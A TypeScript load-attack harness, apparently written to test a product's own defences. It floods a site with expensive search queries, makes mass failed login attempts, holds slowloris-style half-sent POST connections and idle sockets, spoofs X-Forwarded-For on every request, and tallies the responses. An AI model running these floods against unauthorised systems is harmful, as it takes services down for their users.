// A process that attacks a product in one way, from one address, until it is told to stop; then prints how it was answered.
import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { openForm, sendForm } from './visit.ts'

const [kind = '', site = '', issuer = '', from = ''] = process.argv.slice(2)
const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY })
const answers: Record<string, number> = {}
let stopping = false

const count = (answer: string | number): void => {
  answers[answer] = (answers[answer] ?? 0) + 1
}

/** Asks once; never fails, because an attacker does not stop for an error. */
const ask = (url: string): Promise<void> =>
  new Promise((done) => {
    const asking = request(url, { agent, headers: { 'x-forwarded-for': from } }, (response) => {
      count(response.statusCode ?? 0)
      response.resume().once('close', done)
    })
    asking.once('error', () => {
      count('coupée')
      done()
    })
    asking.end()
  })

let asked = 0
/** Reads every text of every ad, for words that nobody has asked for before. */
const costly = (): string => {
  asked += 1
  const word = `${asked.toString(36)}${process.pid.toString(36)}`
  return `${site}/api/lister_annonces?contenu_annonce=ilike.*${word}*&titre_annonce=not.ilike.*${word}*&order=contenu_annonce&offset=300`
}

/** As many loops at once, each of them without a pause. */
const loops = (times: number, run: (rank: number) => Promise<void>): Promise<unknown> =>
  Promise.all(
    Array.from({ length: times }, async (_, rank) => {
      while (!stopping) await run(rank)
    }),
  )

/** So many sockets that say this much and no more; one that is cut comes back. */
async function hold(times: number, origin: string, words: string, drip = ''): Promise<void> {
  const { hostname, port } = new URL(origin)
  const held = new Set<Socket>()
  const open = () => {
    const socket = connect(Number(port), hostname)
    held.add(socket)
    const drops = drip ? setInterval(() => socket.write(drip), 1000) : undefined
    socket.on('error', () => {})
    socket.once('data', (answer) => count(String(answer).slice(9, 12)))
    socket.once('connect', () => socket.write(words))
    socket.once('close', () => {
      clearInterval(drops)
      held.delete(socket)
      count('coupée')
    })
  }
  while (!stopping) {
    for (let made = 0; held.size < times && made < 100; made++) open()
    await sleep(20)
  }
  for (const socket of held) socket.destroy()
}

const halfPost = (path: string): string =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${from}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`

const attacks: Record<string, () => Promise<unknown>> = {
  requetes: () => loops(20, () => ask(costly())),
  salves: () => loops(1, async () => void (await Promise.all(Array.from({ length: 32 }, () => ask(costly()))))),
  async connexions() {
    const forms = await Promise.all(
      Array.from({ length: 100 }, () => openForm({ site, issuer }, from).catch(() => null)),
    )
    await loops(100, async (rank) => {
      asked += 1
      const typed = { email: `inconnu-${asked}@exemple.fr`, password: 'pas-le-bon' }
      const form = forms[rank] ?? (await openForm({ site, issuer }, from).catch(() => null))
      forms[rank] = form
      if (form)
        await sendForm({ site, issuer }, form, typed, from).then(
          ({ status }) => count(status),
          () => count('coupée'),
        )
      else count('sans formulaire')
    })
  },
  lenteur: () =>
    Promise.all([
      hold(200, site, halfPost('/api/rpc/lister_annonces'), '1'),
      hold(200, site, halfPost('/api/rpc/lister_annonces')),
      hold(100, issuer, halfPost('/connexion'), '1'),
    ]),
  muettes: () => hold(2000, site, ''),
}

process.once('SIGTERM', () => {
  stopping = true
  process.stdout.write(JSON.stringify(answers), () => process.exit(0))
})
await attacks[kind]!()
